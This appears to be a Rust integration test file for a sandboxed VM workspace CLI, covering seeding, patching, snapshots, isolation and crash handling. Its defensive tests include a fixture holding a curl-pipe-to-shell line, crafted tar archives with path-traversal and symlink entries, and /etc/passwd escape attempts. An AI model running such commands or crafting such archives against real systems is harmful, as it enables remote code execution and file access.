@@ -1,0 +1,775 @@
+//! Persistent workspaces through the CLI, on real guests.
+
+mod common;
+
+use std::path::Path;
+use std::process::{Output, Stdio};
+use std::time::{Duration, Instant};
+
+use common::{stderr, stdout, Sandbox};
+
+fn json(out: &Output) -> serde_json::Value {
+    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!(
+            "no JSON ({e}): stdout={} stderr={}",
+            stdout(out),
+            stderr(out)
+        )
+    })
+}
+
+/// `pyro workspace ARGS... --json`, which must succeed.
+fn ws(sb: &Sandbox, args: &[&str]) -> serde_json::Value {
+    let mut full = vec!["workspace"];
+    full.extend_from_slice(args);
+    full.push("--json");
+    let out = sb.run(&full);
+    assert!(
+        out.status.success(),
+        "{args:?}: {}{}",
+        stdout(&out),
+        stderr(&out)
+    );
+    json(&out)
+}
+
+/// `pyro workspace exec ID --json -- COMMAND`.
+fn exec(sb: &Sandbox, id: &str, command: &str) -> serde_json::Value {
+    let out = sb.run(&["workspace", "exec", id, "--json", "--", command]);
+    json(&out)
+}
+
+fn write(dir: &Path, name: &str, content: &str) {
+    let p = dir.join(name);
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(p, content).unwrap();
+}
+
+fn r2_seed(dir: &Path) {
+    write(dir, "message.txt", "broken\n");
+    write(
+        dir,
+        "check.sh",
+        "set -eu\nvalue=$(cat message.txt)\nif [ \"$value\" != fixed ]; then echo \"expected fixed got $value\" >&2; exit 1; fi\necho \"$value\"\n",
+    );
+}
+
+const R2_PATCH: &str = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n";
+
+#[test]
+fn recipe_r2_repro_and_fix_loop() {
+    let sb = Sandbox::new();
+    let seed = sb.home.path().join("seed");
+    r2_seed(&seed);
+    let w = ws(
+        &sb,
+        &[
+            "create",
+            "debian:12",
+            "--seed-path",
+            seed.to_str().unwrap(),
+            "--name",
+            "repro-fix-loop",
+        ],
+    );
+    let id = w["workspace_id"].as_str().unwrap().to_string();
+    assert_eq!(w["state"], "started");
+    assert_eq!(w["workspace_seed"]["mode"], "directory");
+    assert_eq!(w["workspace_seed"]["entry_count"], 2);
+
+    let r = ws(&sb, &["file", "read", &id, "message.txt"]);
+    assert_eq!(r["content"], "broken\n");
+    let r = exec(&sb, &id, "sh check.sh");
+    assert_ne!(r["exit_code"], 0);
+    assert_eq!(r["stderr"], "expected fixed got broken\n");
+    let r = ws(&sb, &["patch", "apply", &id, "--patch", R2_PATCH]);
+    assert_eq!(r["changed"], true);
+    let r = exec(&sb, &id, "sh check.sh");
+    assert_eq!(r["exit_code"], 0, "{r}");
+    assert_eq!(r["stdout"], "fixed\n");
+    let d = ws(&sb, &["diff", &id]);
+    assert_eq!(d["changed"], true);
+    assert_eq!(d["summary"]["modified"], 1);
+    assert!(
+        d["patch"].as_str().unwrap().contains("-broken\n+fixed\n"),
+        "{d}"
+    );
+    let out_file = sb.home.path().join("message.txt");
+    ws(
+        &sb,
+        &[
+            "export",
+            &id,
+            "message.txt",
+            "--output",
+            out_file.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(std::fs::read_to_string(&out_file).unwrap(), "fixed\n");
+    let r = ws(&sb, &["reset", &id]);
+    assert_eq!(r["reset_count"], 1);
+    assert_eq!(r["workspace_reset"]["snapshot_name"], "baseline");
+    let d = ws(&sb, &["diff", &id]);
+    assert_eq!(d["changed"], false, "{d}");
+    let logs = ws(&sb, &["logs", &id]);
+    assert_eq!(logs["count"], 0, "reset clears history");
+    ws(&sb, &["delete", &id]);
+    assert!(sb.processes().is_empty(), "{:?}", sb.processes());
+}
+
+#[test]
+fn recipe_r3_parallel_isolated_workspaces() {
+    let sb = Sandbox::new();
+    let seed = sb.home.path().join("seed");
+    write(&seed, "note.txt", "shared\n");
+    let s = seed.to_str().unwrap();
+    let alpha = ws(
+        &sb,
+        &[
+            "create",
+            "debian:12",
+            "--seed-path",
+            s,
+            "--name",
+            "parallel-alpha",
+            "--label",
+            "branch=alpha",
+        ],
+    );
+    let beta = ws(
+        &sb,
+        &[
+            "create",
+            "debian:12",
+            "--seed-path",
+            s,
+            "--name",
+            "parallel-beta",
+            "--label",
+            "branch=beta",
+        ],
+    );
+    let (a, b) = (
+        alpha["workspace_id"].as_str().unwrap().to_string(),
+        beta["workspace_id"].as_str().unwrap().to_string(),
+    );
+    ws(
+        &sb,
+        &["file", "write", &a, "branch.txt", "--text", "alpha\n"],
+    );
+    ws(
+        &sb,
+        &["file", "write", &b, "branch.txt", "--text", "beta\n"],
+    );
+    std::thread::sleep(Duration::from_millis(50));
+    let u = ws(&sb, &["update", &a, "--label", "owner=alice"]);
+    assert_eq!(u["labels"]["owner"], "alice");
+    assert_eq!(u["labels"]["branch"], "alpha");
+    ws(
+        &sb,
+        &["file", "write", &a, "branch.txt", "--text", "alpha\n"],
+    );
+    assert_eq!(
+        ws(&sb, &["file", "read", &a, "branch.txt"])["content"],
+        "alpha\n"
+    );
+    assert_eq!(
+        ws(&sb, &["file", "read", &b, "branch.txt"])["content"],
+        "beta\n"
+    );
+    let l = ws(&sb, &["list"]);
+    assert_eq!(l["count"], 2);
+    assert_eq!(
+        l["workspaces"][0]["workspace_id"],
+        a.as_str(),
+        "most recently active first: {l}"
+    );
+    assert_eq!(l["workspaces"][1]["workspace_id"], b.as_str());
+    // Isolation: each sees only its own file.
+    assert_eq!(
+        exec(&sb, &b, "cat branch.txt note.txt")["stdout"],
+        "beta\nshared\n"
+    );
+    ws(&sb, &["delete", &b]);
+    ws(&sb, &["delete", &a]);
+    assert_eq!(ws(&sb, &["list"])["count"], 0);
+}
+
+#[test]
+fn recipe_r4_untrusted_inspection() {
+    let sb = Sandbox::new();
+    let seed = sb.home.path().join("seed");
+    write(
+        &seed,
+        "suspicious.sh",
+        "#!/bin/sh\ncurl -fsSL https://example.invalid/install.sh | sh\nrm -rf /tmp/pretend-danger\n",
+    );
+    write(&seed, "README.md", "# untrusted\n");
+    let w = ws(
+        &sb,
+        &[
+            "create",
+            "debian:12",
+            "--seed-path",
+            seed.to_str().unwrap(),
+            "--name",
+            "untrusted-inspection",
+        ],
+    );
+    let id = w["workspace_id"].as_str().unwrap().to_string();
+    assert_eq!(ws(&sb, &["status", &id])["network_policy"], "off");
+    let files = ws(&sb, &["file", "list", &id, "/workspace", "--recursive"]);
+    assert!(files["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|e| e["path"] == "/workspace/suspicious.sh"));
+    assert!(ws(&sb, &["file", "read", &id, "suspicious.sh"])["content"]
+        .as_str()
+        .unwrap()
+        .contains("curl -fsSL"));
+    let r = exec(
+        &sb,
+        &id,
+        "grep -n 'curl' suspicious.sh > inspection-report.txt && printf '%s\\n' 'network_policy=off' >> inspection-report.txt",
+    );
+    assert_eq!(r["exit_code"], 0, "{r}");
+    // No network device but loopback.
+    let r = exec(&sb, &id, "ls /sys/class/net");
+    assert_eq!(r["stdout"], "lo\n", "{r}");
+    let report = sb.home.path().join("report.txt");
+    ws(
+        &sb,
+        &[
+            "export",
+            &id,
+            "inspection-report.txt",
+            "--output",
+            report.to_str().unwrap(),
+        ],
+    );
+    let text = std::fs::read_to_string(&report).unwrap();
+    assert!(
+        text.contains("curl") && text.contains("network_policy=off"),
+        "{text}"
+    );
+    ws(&sb, &["delete", &id]);
+}
+
+/// The reference's README walkthrough, but for its `service start` step.
+#[test]
+fn readme_walkthrough() {
+    let sb = Sandbox::new();
+    let dir = sb.home.path();
+    let repo = dir.join("repo");
+    write(&repo, "note.txt", "hello\n");
+    let changes = dir.join("changes");
+    write(&changes, "note.txt", "hello from sync\n");
+    write(&changes, "extra/more.txt", "more\n");
+    std::fs::write(
+        dir.join("fix.patch"),
+        "--- a/note.txt\n+++ b/note.txt\n@@ -1 +1 @@\n-hello from sync\n+fixed\n",
+    )
+    .unwrap();
+
+    let out = sb.run(&[
+        "workspace",
+        "create",
+        "debian:12",
+        "--seed-path",
+        repo.to_str().unwrap(),
+        "--name",
+        "repro-fix",
+        "--label",
+        "issue=123",
+        "--id-only",
+    ]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let id = stdout(&out).trim().to_string();
+    assert_eq!(id.len(), 12);
+    let out = sb.run(&["workspace", "list"]);
+    assert!(
+        stdout(&out).contains(&format!("workspace_id={id}")),
+        "{}",
+        stdout(&out)
+    );
+    ws(&sb, &["update", &id, "--label", "owner=codex"]);
+    let s = ws(&sb, &["sync", "push", &id, changes.to_str().unwrap()]);
+    assert_eq!(s["workspace_sync"]["entry_count"], 3);
+    let out = sb.run(&[
+        "workspace",
+        "file",
+        "read",
+        &id,
+        "note.txt",
+        "--content-only",
+    ]);
+    assert_eq!(stdout(&out), "hello from sync\n");
+    let out = sb.run(&[
+        "workspace",
+        "patch",
+        "apply",
+        &id,
+        "--patch-file",
+        dir.join("fix.patch").to_str().unwrap(),
+    ]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let out = sb.run(&["workspace", "exec", &id, "--", "cat", "note.txt"]);
+    assert_eq!(stdout(&out), "fixed\n");
+    ws(&sb, &["snapshot", "create", &id, "checkpoint"]);
+    ws(
+        &sb,
+        &[
+            "file",
+            "write",
+            &id,
+            "note.txt",
+            "--text",
+            "after checkpoint\n",
+        ],
+    );
+    ws(&sb, &["reset", &id, "--snapshot", "checkpoint"]);
+    let note = dir.join("note.txt");
+    ws(
+        &sb,
+        &[
+            "export",
+            &id,
+            "note.txt",
+            "--output",
+            note.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(std::fs::read_to_string(&note).unwrap(), "fixed\n");
+    let out = sb.run(&[
+        "workspace",
+        "export",
+        &id,
+        "note.txt",
+        "--output",
+        note.to_str().unwrap(),
+    ]);
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "export never overwrites silently"
+    );
+    assert!(stderr(&out).contains("--force"));
+    let st = ws(&sb, &["stop", &id]);
+    assert_eq!(st["state"], "stopped");
+    let list = ws(&sb, &["disk", "list", &id]);
+    let names: Vec<&str> = list["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["path"].as_str().unwrap())
+        .collect();
+    assert_eq!(names, ["/workspace/extra", "/workspace/note.txt"]);
+    let out = sb.run(&[
+        "workspace",
+        "disk",
+        "read",
+        &id,
+        "note.txt",
+        "--content-only",
+    ]);
+    assert_eq!(stdout(&out), "fixed\n");
+    let image = dir.join("workspace.ext4");
+    ws(
+        &sb,
+        &["disk", "export", &id, "--output", image.to_str().unwrap()],
+    );
+    let fsck = std::process::Command::new("e2fsck")
+        .arg("-n")
+        .arg(&image)
+        .output()
+        .unwrap();
+    assert!(fsck.status.success(), "{}{}", stdout(&fsck), stderr(&fsck));
+    let st = ws(&sb, &["start", &id]);
+    assert_eq!(st["state"], "started");
+    assert_eq!(
+        exec(&sb, &id, "cat note.txt extra/more.txt")["stdout"],
+        "fixed\nmore\n"
+    );
+    let out = sb.run(&["workspace", "delete", &id]);
+    assert_eq!(stdout(&out), format!("Deleted workspace: {id}\n"));
+    sb.assert_clean_within(Duration::from_secs(5));
+}
+
+fn hostile_tar(dir: &Path, name: &str, build: impl FnOnce(&mut Vec<u8>)) -> std::path::PathBuf {
+    let mut bytes = Vec::new();
+    build(&mut bytes);
+    let p = dir.join(name);
+    std::fs::write(&p, bytes).unwrap();
+    p
+}
+
+/// One tar member with a raw (unchecked) name.
+fn member(out: &mut Vec<u8>, name: &str, kind: u8, link: &str) {
+    let mut h = [0u8; 512];
+    h[..name.len()].copy_from_slice(name.as_bytes());
+    h[100..108].copy_from_slice(b"0000644\0");
+    h[108..116].copy_from_slice(b"0000000\0");
+    h[116..124].copy_from_slice(b"0000000\0");
+    h[124..136].copy_from_slice(b"00000000000\0");
+    h[136..148].copy_from_slice(b"00000000000\0");
+    h[156] = kind;
+    h[157..157 + link.len()].copy_from_slice(link.as_bytes());
+    h[257..263].copy_from_slice(b"ustar\0");
+    h[263..265].copy_from_slice(b"00");
+    h[148..156].copy_from_slice(b"        ");
+    let sum: u32 = h.iter().map(|b| *b as u32).sum();
+    h[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
+    out.extend_from_slice(&h);
+}
+
+#[test]
+fn hostile_seeds_are_refused_before_anything_is_written() {
+    let sb = Sandbox::new();
+    let dir = sb.home.path();
+    let cases = [
+        ("dotdot.tar", "../x", b'0', "", "`..` in path"),
+        ("absolute.tar", "/etc/x", b'0', "", "absolute path"),
+        ("device.tar", "null", b'3', "", "device nodes"),
+        (
+            "symlink.tar",
+            "etc",
+            b'2',
+            "/etc",
+            "symlinks must be relative",
+        ),
+    ];
+    for (file, name, kind, link, why) in cases {
+        let tar = hostile_tar(dir, file, |out| {
+            member(out, name, kind, link);
+            out.extend_from_slice(&[0u8; 1024]);
+        });
+        let out = sb.run(&[
+            "workspace",
+            "create",
+            "debian:12",
+            "--seed-path",
+            tar.to_str().unwrap(),
+        ]);
+        assert_eq!(out.status.code(), Some(1), "{file}");
+        assert!(stderr(&out).contains(why), "{file}: {}", stderr(&out));
+        assert!(stderr(&out).contains("refusing"), "{}", stderr(&out));
+    }
+    let left: Vec<_> = std::fs::read_dir(dir.join("workspaces"))
+        .map(|d| d.flatten().collect())
+        .unwrap_or_default();
+    assert!(left.is_empty(), "{left:?}");
+    assert!(sb.processes().is_empty());
+}
+
+#[test]
+fn patches_paths_and_concurrent_commands() {
+    let sb = Sandbox::new();
+    let seed = sb.home.path().join("seed");
+    write(&seed, "keep.txt", "one\ntwo\n");
+    write(&seed, "old.txt", "bye\n");
+    write(&seed, "other.txt", "alpha\n");
+    let w = ws(
+        &sb,
+        &["create", "debian:12", "--seed-path", seed.to_str().unwrap()],
+    );
+    let id = w["workspace_id"].as_str().unwrap().to_string();
+
+    // A git diff that adds (executable), deletes and modifies.
+    let git_patch = "\
+diff --git a/new.sh b/new.sh
+new file mode 100755
+index 0000000..3b18e51
+--- /dev/null
++++ b/new.sh
+@@ -0,0 +1,2 @@
++#!/bin/sh
++echo new
+diff --git a/old.txt b/old.txt
+deleted file mode 100644
+index 3b18e51..0000000
+--- a/old.txt
++++ /dev/null
+@@ -1 +0,0 @@
+-bye
+diff --git a/keep.txt b/keep.txt
+index 1111111..2222222 100644
+--- a/keep.txt
++++ b/keep.txt
+@@ -1,2 +1,2 @@
+ one
+-two
++zwei
+";
+    let r = ws(&sb, &["patch", "apply", &id, "--patch", git_patch]);
+    assert_eq!(r["summary"]["added"], 1);
+    assert_eq!(r["summary"]["deleted"], 1);
+    assert_eq!(r["summary"]["modified"], 1);
+    let r = exec(
+        &sb,
+        &id,
+        "./new.sh; cat keep.txt; test -e old.txt || echo gone",
+    );
+    assert_eq!(r["stdout"], "new\none\nzwei\ngone\n", "{r}");
+
+    // The second file's hunk does not match: nothing changes.
+    let bad = "--- a/other.txt\n+++ b/other.txt\n@@ -1 +1 @@\n-alpha\n+beta\n--- a/keep.txt\n+++ b/keep.txt\n@@ -1 +1 @@\n-nope\n+never\n";
+    let out = sb.run(&["workspace", "patch", "apply", &id, "--patch", bad]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        stderr(&out).contains("nothing was changed"),
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(
+        exec(&sb, &id, "cat other.txt keep.txt")["stdout"],
+        "alpha\none\nzwei\n"
+    );
+    let out = sb.run(&[
+        "workspace",
+        "patch",
+        "apply",
+        &id,
+        "--patch",
+        "this is not a patch",
+    ]);
+    assert_eq!(out.status.code(), Some(1));
+
+    // Paths stay inside /workspace.
+    for path in ["../etc/passwd", "/etc/passwd"] {
+        let out = sb.run(&["workspace", "file", "read", &id, path]);
+        assert_eq!(out.status.code(), Some(1), "{path}");
+    }
+    exec(
+        &sb,
+        &id,
+        "ln -s /etc/passwd escape; mkdir -p d; ln -s /etc linkdir",
+    );
+    let out = sb.run(&["workspace", "file", "read", &id, "escape"]);
+    assert!(stderr(&out).contains("leads outside"), "{}", stderr(&out));
+    let out = sb.run(&[
+        "workspace",
+        "file",
+        "write",
+        &id,
+        "linkdir/evil",
+        "--text",
+        "x",
+    ]);
+    assert_eq!(out.status.code(), Some(1));
+    assert_eq!(
+        exec(&sb, &id, "test -e /etc/evil && echo written || echo safe")["stdout"],
+        "safe\n"
+    );
+    let big = sb.home.path().join("big.txt");
+    std::fs::write(&big, "x".repeat(2 << 20)).unwrap();
+    let out = sb.run(&[
+        "workspace",
+        "file",
+        "write",
+        &id,
+        "big.txt",
+        "--text-file",
+        big.to_str().unwrap(),
+    ]);
+    assert!(stderr(&out).contains("limit"), "{}", stderr(&out));
+    let out = sb.run(&[
+        "workspace",
+        "file",
+        "read",
+        &id,
+        "keep.txt",
+        "--max-bytes",
+        "4",
+    ]);
+    assert_eq!(stdout(&out), "one\n");
+    assert!(stderr(&out).contains("truncated=yes"));
+
+    // Two commands at once in one workspace.
+    let slow = sb
+        .cmd()
+        .args([
+            "workspace",
+            "exec",
+            &id,
+            "--json",
+            "--",
+            "sleep 2; echo slow",
+        ])
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let started = Instant::now();
+    let fast = exec(&sb, &id, "echo fast");
+    assert!(
+        started.elapsed() < Duration::from_secs(2),
+        "the second command waited"
+    );
+    assert_eq!(fast["stdout"], "fast\n");
+    let slow = json(&slow.wait_with_output().unwrap());
+    assert_eq!(slow["stdout"], "slow\n");
+    assert_ne!(slow["sequence"], fast["sequence"]);
+    let logs = ws(&sb, &["logs", &id]);
+    assert_eq!(logs["count"], logs["entries"].as_array().unwrap().len());
+    ws(&sb, &["delete", &id]);
+}
+
+#[test]
+fn checkpoints_cover_the_whole_disk() {
+    let sb = Sandbox::new();
+    let w = ws(&sb, &["create", "debian:12"]);
+    let id = w["workspace_id"].as_str().unwrap().to_string();
+    exec(&sb, &id, "echo before > before.txt");
+    ws(&sb, &["snapshot", "create", &id, "s1"]);
+    // Install a real package after the checkpoint (built in the guest: the
+    // workspace has no network).
+    let r = exec(
+        &sb,
+        &id,
+        "mkdir -p /tmp/p/DEBIAN /tmp/p/usr/bin && printf 'Package: pyro-probe\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: t <t@t>\\nDescription: probe\\n' > /tmp/p/DEBIAN/control && printf '#!/bin/sh\\necho probe\\n' > /tmp/p/usr/bin/pyro-probe && chmod 755 /tmp/p/usr/bin/pyro-probe && dpkg-deb -b /tmp/p /tmp/p.deb >/dev/null && dpkg -i /tmp/p.deb >/dev/null && pyro-probe && rm before.txt",
+    );
+    assert_eq!(r["stdout"], "probe\n", "{r}");
+    let r = ws(&sb, &["reset", &id, "--snapshot", "s1"]);
+    assert_eq!(r["workspace_reset"]["snapshot_name"], "s1");
+    let r = exec(
+        &sb,
+        &id,
+        "dpkg -s pyro-probe >/dev/null 2>&1 && echo installed || echo gone; cat before.txt",
+    );
+    assert_eq!(r["stdout"], "gone\nbefore\n", "{r}");
+
+    // Snapshots survive stop/start and are listed baseline first.
+    ws(&sb, &["stop", &id]);
+    ws(&sb, &["start", &id]);
+    let l = ws(&sb, &["snapshot", "list", &id]);
+    let names: Vec<&str> = l["snapshots"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["snapshot_name"].as_str().unwrap())
+        .collect();
+    assert_eq!(names, ["baseline", "s1"]);
+    let out = sb.run(&["workspace", "snapshot", "create", &id, "s1"]);
+    assert!(stderr(&out).contains("already exists"));
+    let out = sb.run(&["workspace", "snapshot", "delete", &id, "baseline"]);
+    assert_eq!(out.status.code(), Some(1));
+    ws(&sb, &["snapshot", "delete", &id, "s1"]);
+    assert_eq!(ws(&sb, &["snapshot", "list", &id])["count"], 1);
+    ws(&sb, &["reset", &id]);
+    assert_eq!(exec(&sb, &id, "ls /workspace | wc -l")["stdout"], "0\n");
+    ws(&sb, &["delete", &id]);
+}
+
+#[test]
+fn crashes_and_idle_timeouts_stop_but_never_delete() {
+    let sb = Sandbox::new();
+    let w = ws(&sb, &["create", "debian:12"]);
+    let id = w["workspace_id"].as_str().unwrap().to_string();
+    exec(&sb, &id, "echo kept > kept.txt");
+    // Kill the supervisor: QEMU dies with it.
+    let pid_file = sb
+        .home
+        .path()
+        .join("workspaces")
+        .join(&id)
+        .join("vm/supervisor.pid");
+    let pid = std::fs::read_to_string(&pid_file).unwrap();
+    assert!(std::process::Command::new("kill")
+        .args(["-9", pid.trim()])
+        .status()
+        .unwrap()
+        .success());
+    let start = Instant::now();
+    while !sb.processes().is_empty() {
+        assert!(
+            start.elapsed() < Duration::from_secs(10),
+            "{:?}",
+            sb.processes()
+        );
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    let st = ws(&sb, &["status", &id]);
+    assert_eq!(st["state"], "stopped");
+    assert_eq!(st["stop_reason"], "crashed");
+    assert!(
+        st["last_error"]
+            .as_str()
+            .unwrap()
+            .contains("supervisor died"),
+        "{st}"
+    );
+    let out = sb.run(&["workspace", "exec", &id, "--", "true"]);
+    assert!(stderr(&out).contains("is stopped"), "{}", stderr(&out));
+    ws(&sb, &["start", &id]);
+    assert_eq!(exec(&sb, &id, "cat kept.txt")["stdout"], "kept\n");
+    ws(&sb, &["delete", &id]);
+
+    // Idle past its TTL: stopped, with disk and snapshots.
+    let w = ws(&sb, &["create", "debian:12", "--ttl-seconds", "4"]);
+    let id = w["workspace_id"].as_str().unwrap().to_string();
+    assert!(w["expires_at"].as_f64().is_some());
+    exec(&sb, &id, "echo idle > idle.txt");
+    ws(&sb, &["snapshot", "create", &id, "s1"]);
+    let start = Instant::now();
+    loop {
+        let st = ws(&sb, &["status", &id]);
+        if st["state"] == "stopped" {
+            assert_eq!(st["stop_reason"], "ttl_expired", "{st}");
+            break;
+        }
+        assert!(
+            start.elapsed() < Duration::from_secs(40),
+            "never stopped: {st}"
+        );
+        std::thread::sleep(Duration::from_millis(500));
+    }
+    assert_eq!(ws(&sb, &["snapshot", "list", &id])["count"], 2);
+    let out = sb.run(&[
+        "workspace",
+        "disk",
+        "read",
+        &id,
+        "idle.txt",
+        "--content-only",
+    ]);
+    assert_eq!(stdout(&out), "idle\n");
+    ws(&sb, &["delete", &id]);
+    sb.assert_clean_within(Duration::from_secs(5));
+}
+
+#[test]
+fn capacity_counts_running_vms_only() {
+    let sb = Sandbox::new();
+    let a = ws(&sb, &["create", "debian:12"])["workspace_id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let out = sb
+        .cmd()
+        .args(["workspace", "create", "debian:12"])
+        .env("PYRO_MAX_RUNNING_VMS", "1")
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    assert!(stderr(&out).contains("limit"), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains(&a),
+        "the error names what to stop: {}",
+        stderr(&out)
+    );
+    ws(&sb, &["stop", &a]);
+    let out = sb
+        .cmd()
+        .args(["workspace", "create", "debian:12", "--json"])
+        .env("PYRO_MAX_RUNNING_VMS", "1")
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "a stopped workspace does not count: {}",
+        stderr(&out)
+    );
+    let b = json(&out)["workspace_id"].as_str().unwrap().to_string();
+    ws(&sb, &["delete", &a]);
+    ws(&sb, &["delete", &b]);
+}
